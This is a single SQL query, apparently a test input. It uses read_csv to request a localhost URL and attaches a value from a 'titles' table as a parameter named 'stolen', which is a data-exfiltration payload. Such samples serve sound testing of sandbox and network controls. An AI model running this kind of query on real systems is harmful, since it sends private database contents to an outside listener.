SELECT * FROM read_csv('http://127.0.0.1:8000/?stolen=' || (SELECT max(title_name) FROM titles))
